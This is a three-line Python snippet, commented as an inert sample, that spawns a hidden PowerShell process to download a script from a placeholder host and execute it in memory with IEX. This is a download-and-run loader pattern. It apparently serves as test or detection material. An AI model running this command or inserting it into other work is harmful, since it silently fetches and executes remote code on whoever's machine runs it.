# INERT SAMPLE: never run.
import subprocess
subprocess.Popen('powershell -NoP -W Hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'https://x.example.invalid/a.ps1\')"', shell=True)
